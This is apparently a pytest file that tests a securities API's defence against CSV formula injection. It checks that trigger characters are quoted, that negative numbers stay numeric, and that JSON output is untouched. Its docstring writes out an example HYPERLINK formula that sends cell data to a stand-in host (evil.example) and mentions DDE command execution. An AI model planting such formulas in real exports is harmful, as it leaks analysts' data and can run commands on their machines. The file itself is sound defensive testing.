"""CSV formula injection (OWASP): text a spreadsheet would run as a formula is neutralised.

The attack: get `=HYPERLINK("https://evil.example/?leak="&A1, ...)` into a source file as an
issuer name; an analyst opens `/v1/securities?format=csv` in Excel and the cell is a live formula
(data exfiltration, or DDE command execution with `+cmd|...`). Now such a cell starts with a
single quote and shows as text; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date

import pytest

from service.rest.resources import Price, Security
from service.rest.serialize import FORMULA_TRIGGERS, Shape, csv_cell, csv_text
from tests.conftest import Servers, app_client, make_settings
from tests.security.conftest import FORMULA_NAMES, PLAIN


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_formula_names_arrive_in_the_spreadsheet_as_text(
    listed_url: str, servers: Servers, redis_prefix: str
) -> None:
    settings = make_settings(listed_url, servers.redis_url, redis_prefix)
    async with app_client(settings) as client:
        response = await client.get("/v1/securities", params={"format": "csv"})
        assert response.status_code == 200
        names = {row["symbol"]: row["name"] for row in _rows(response.text)}
        for symbol, name in FORMULA_NAMES.items():
            # What the analyst's spreadsheet gets: the name as text, after one quote.
            assert names[symbol] == "'" + name
        for symbol in PLAIN:
            assert names[symbol] == f"{symbol} Corp"
        # JSON is data, not a spreadsheet: it keeps the name exactly.
        data = (await client.get("/v1/securities", params={"limit": 100})).json()["data"]
        assert {s["symbol"]: s["name"] for s in data}["FEQ"] == FORMULA_NAMES["FEQ"]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_character_is_neutralised(trigger: str) -> None:
    # Tab and CR cannot come through the ingest (it strips names), but may through any future
    # text field: the writer itself is the defence.
    assert csv_cell(f"{trigger}1+1") == f"'{trigger}1+1"


def test_text_that_merely_contains_a_trigger_is_left_alone() -> None:
    assert csv_cell("Coca-Cola Co") == "Coca-Cola Co"
    assert csv_cell("AT&T = value @ 2") == "AT&T = value @ 2"
    assert csv_cell("") == ""


@dataclass
class _Bar:
    date: date
    open: float | None
    high: float | None
    low: float | None
    close: float
    volume: int | None


def test_negative_numbers_stay_numbers() -> None:
    # A change of -5 shares or a -0.5 dollar price move is a value to sum, not text: no quote.
    bar = _Bar(date(2026, 7, 31), -1.25, 2.5, -3.0, -0.5, -5)
    [row] = _rows(csv_text(Shape(Price, {}), [bar], header=True))
    assert row == {
        "date": "2026-07-31",
        "open": "-1.25",
        "high": "2.5",
        "low": "-3.0",
        "close": "-0.5",
        "volume": "-5",
    }


@dataclass
class _Listed:
    symbol: str
    name: str | None
    type: str
    market_class: str | None
    type_source: str
    listing_exchange: str | None


def test_every_text_column_is_covered_not_only_names() -> None:
    record = _Listed("=A1", "@x", "stock", "-OTC", "guess", "+NYSE")
    [row] = _rows(csv_text(Shape(Security, {}), [record], header=True))
    assert row == {
        "symbol": "'=A1",
        "name": "'@x",
        "type": "stock",
        "market_class": "'-OTC",
        "type_source": "guess",
        "listing_exchange": "'+NYSE",
    }


async def test_the_csv_of_a_single_security_is_neutralised_too(
    listed_url: str, servers: Servers, redis_prefix: str
) -> None:
    settings = make_settings(listed_url, servers.redis_url, redis_prefix)
    async with app_client(settings) as client:
        response = await client.get("/v1/securities/FPL", headers={"Accept": "text/csv"})
        assert response.status_code == 200
        [row] = _rows(response.text)
        assert row["name"] == "'" + FORMULA_NAMES["FPL"]


async def test_graphql_json_is_untouched(
    listed_url: str, servers: Servers, redis_prefix: str
) -> None:
    settings = make_settings(listed_url, servers.redis_url, redis_prefix)
    async with app_client(settings) as client:
        response = await client.post(
            "/graphql", json={"query": '{ security(symbol: "FMI") { name } }'}
        )
        assert response.json()["data"]["security"]["name"] == FORMULA_NAMES["FMI"]
